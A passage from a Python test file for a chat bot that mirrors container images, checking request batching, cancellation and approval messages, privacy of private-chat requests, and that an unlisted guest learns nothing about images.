    assert w.repository.commits[0][1].startswith("Mirror 2 images\n")
    await w.say(LI, "/mirror busybox")
    await w.settle(4)
    assert w.repository.writes == 1
    await w.settle(10)
    assert w.repository.writes == 2


async def test_nobody_waits_longer_than_ten_seconds_for_others_to_join(w: World) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx:1.27")
    for number in range(13):
        image = ImageRef.parse(f"other:{number}")
        w.upstream(image)
        person = (WEI, LI)[number % 2]
        await w.say(person, f"/mirror {image}")
        await w.settle(0)
        w.clock.pass_time(1)
    assert w.repository.writes >= 1


async def test_the_lane_that_talks_does_not_rest_while_requests_are_open(
    w: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(chat_items, "ITEMS_PER_TICK", 2)
    w.upstream(STATIC)
    for person in (WEI, LI):
        await w.say(person, f"/mirror {STATIC}")
    await w.settle(20)
    pulses = [await w.lanes["chat"].tick() for _ in range(4)]
    assert TickResult.IDLE not in pulses


async def test_a_tick_without_anything_open_is_idle(w: World) -> None:
    assert await w.reconciler.tick() is TickResult.IDLE
    await w.say(WEI, "/mirror nginx:1.27", chat=GROUP)
    assert await w.reconciler.tick() is TickResult.CHANGED


async def test_a_run_is_looked_at_soon_and_what_waits_for_an_admin_is_not(w: World) -> None:
    w.upstream(STATIC, NGINX)
    await w.say(WEI, f"/mirror {STATIC}")
    await w.settle(6)
    assert await w.reconciler.tick() is TickResult.OPEN
    await w.say(WEI, f"/mirror {NGINX}")
    await w.settle(6)
    assert State.COPYING in await states(w)
    pulses = [await w.reconciler.tick() for _ in range(3)]  # the first may be due
    assert pulses[-1] is TickResult.SOON


async def test_who_calls_off_what_others_want_too_is_not_told_of_it_again(w: World) -> None:
    w.upstream(STATIC, NGINX)
    w.registries.target[str(NGINX)] = digest_of(str(NGINX))
    await w.say(WEI, f"/mirror {STATIC}")
    await w.say(LI, f"/mirror {STATIC} {NGINX}")
    await w.settle(6)
    await w.say(LI, "/cancel #2")
    await w.settle(8)
    assert any(text.startswith("#2: 1 image cancelled.") for text in w.chat.texts)
    assert any(text.startswith("Done, 1 of 1") for text in w.chat.texts)
    assert await states(w) == [State.WAITING, State.MIRRORED]


async def test_an_admin_hears_that_a_draft_waits_for_its_person(w: World) -> None:
    await w.say(WEI, "/mirror a/a:1 b/b:1 c/c:1 d/d:1")
    await w.say(ANA, "/approve #1")
    await w.settle(3)
    assert "#1 is a draft.\nWei has to confirm it first." in w.chat.texts


async def test_what_was_asked_in_private_stays_there(w: World) -> None:
    w.upstream(STATIC)
    private = ChatId(LI.id)
    await w.say(LI, f"/mirror {STATIC}", chat=private)
    await w.settle(5)
    await w.say(ANA, "/reject #1 too large for us", chat=ChatId(ANA.id))
    await w.settle(5)
    for person, command in (
        (WEI, f"/status {STATIC}"),
        (WEI, "/status #1"),
        (WEI, "/cancel #1"),
        (WEI, "/retry #1"),
        (ANA, "/status #1"),
        (ANA, f"/status {STATIC}"),
    ):
        await w.say(person, command)
        await w.settle(2)
        unknown = "I know of no request for" if str(STATIC) in command else "There is no request #1"
        assert w.last.startswith(unknown), (person.name, command)
        assert "too large" not in w.last
    for person in (LI, ANA):
        await w.say(person, f"/status {STATIC}", chat=ChatId(person.id))
        await w.settle(2)
        assert "too large for us" in w.last


async def test_a_guest_learns_nothing_of_images(w: World) -> None:
    w.upstream(NGINX)
    await w.say(WEI, f"/mirror {NGINX}")
    await w.settle(5)
    for command in ("/mirror nginx:1.27", "/status", "/status #1", f"/status {NGINX}"):
        await w.say(MALLORY, command)
        await w.settle(2)
        assert "nginx" not in w.last
        assert "You are not on my list yet. Your id is <code>1004</code>" in w.last
